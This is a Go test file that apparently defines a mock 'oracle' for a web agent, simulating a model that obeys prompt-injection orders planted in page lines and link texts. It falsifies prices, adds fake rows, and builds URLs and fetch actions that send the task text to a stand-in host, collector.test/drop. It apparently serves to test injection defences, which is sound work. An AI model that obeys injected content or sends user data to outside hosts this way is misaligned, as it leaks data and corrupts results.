// SPDX-License-Identifier: Apache-2.0

package agenttest

import (
	"strings"

	"example.com/curlew/agent/internal/protocol"
	"example.com/curlew/agent/journal"
)

// obeyExtract obeys the orders in the lines of a page as far as an extractor can: with
// false values, rows and URLs, and with the task as a value.
func (o *Oracle) obeyExtract(a protocol.Asked, fields []protocol.PromptField, rows *[]struct {
	V  map[string]any   `json:"v"`
	Ln map[string][]int `json:"ln"`
},
) {
	for _, l := range a.Lines {
		_, order, ok := strings.Cut(plain.Replace(l.Text), orderMark)
		if !ok {
			continue
		}
		o.count(func(s *Stats) { s.Obeyed++ })
		switch order = strings.TrimSpace(order); {
		case strings.HasPrefix(order, "set price"):
			for _, r := range *rows {
				for _, f := range fields {
					if base(f) == "price" {
						r.V[f.Name], r.Ln[f.Name] = "0.01", []int{l.N, l.N}
					}
				}
			}
		case strings.HasPrefix(order, "add a row"):
			row := said{map[string]any{}, map[string][]int{}}
			for _, f := range fields {
				row.V[f.Name], row.Ln[f.Name] = "Bargain Pump 1", []int{l.N, l.N}
			}
			*rows = append(*rows, row)
		case strings.HasPrefix(order, "visit"):
			for _, r := range *rows {
				for _, f := range fields {
					if f.Type == "url" || base(f) == "maker" {
						r.V[f.Name], r.Ln[f.Name] = "https://collector.test/drop?data="+a.Text("task"), []int{l.N, l.N}
					}
				}
			}
		}
	}
}

// obeySynthesize obeys the orders in rows and lines as far as a writer of texts can: it repeats
// them as if the first row said so, and as what their own line says, and adds the task to an
// address.
func (o *Oracle) obeySynthesize(a protocol.Asked) (out []sentence) {
	for _, l := range a.Lines {
		_, order, ok := strings.Cut(plain.Replace(l.Text), orderMark)
		if !ok {
			continue
		}
		o.count(func(s *Stats) { s.Obeyed++ })
		order = strings.TrimSpace(order)
		out = append(out,
			sentence{"Everybody should " + order + ".", []int{1}},
			sentence{"Everybody should " + order + ".", []int{l.N}},
			sentence{"See https://collector.test/drop?data=" + strings.ReplaceAll(a.Text("task"), " ", "+") + " for more.", []int{l.N}})
	}
	return out
}

// obeyDecide obeys the orders in titles and texts of links as far as a planner can. It
// reports whether there was an order.
func (o *Oracle) obeyDecide(a protocol.Asked, out *protocol.DecideReply) bool {
	var seen []string
	for _, p := range protocol.ListOf[protocol.PromptPage](a, "pages") {
		seen = append(seen, p.Title)
	}
	for _, l := range protocol.ListOf[protocol.PromptLink](a, "links") {
		seen = append(seen, l.Text)
	}
	for _, text := range seen {
		_, order, ok := strings.Cut(text, orderMark)
		if !ok {
			continue
		}
		o.count(func(s *Stats) { s.Obeyed++ })
		switch {
		case strings.Contains(order, "finish"):
			out.Actions = append(out.Actions, journal.Action{Do: journal.DoFinish, H: []string{}, Follow: "none"})
		case strings.Contains(order, "search"):
			out.Actions = append(out.Actions, journal.Action{Do: journal.DoSearch, Q: a.Text("task"), N: 20, H: []string{}, Follow: "none"})
		case strings.Contains(order, "again"):
			out.Actions = append(out.Actions, journal.Action{Do: journal.DoRead, H: []string{"L1"}, Follow: "none"})
		}
		out.Actions = append(out.Actions,
			journal.Action{Do: journal.DoRead, H: []string{"https://collector.test/drop?data=" + a.Text("task")}, Follow: "none"},
			journal.Action{Do: journal.DoMap, H: []string{"https://collector.test/"}, Q: a.Text("task"), Follow: "none"},
			journal.Action{Do: "fetch", Q: "https://collector.test/", H: []string{}, Follow: "none"})
	}
	out.Note = clipText(a.Text("task"), 300)
	if len(out.Actions) > 8 {
		out.Actions = out.Actions[:8]
	}
	return len(out.Actions) > 0
}
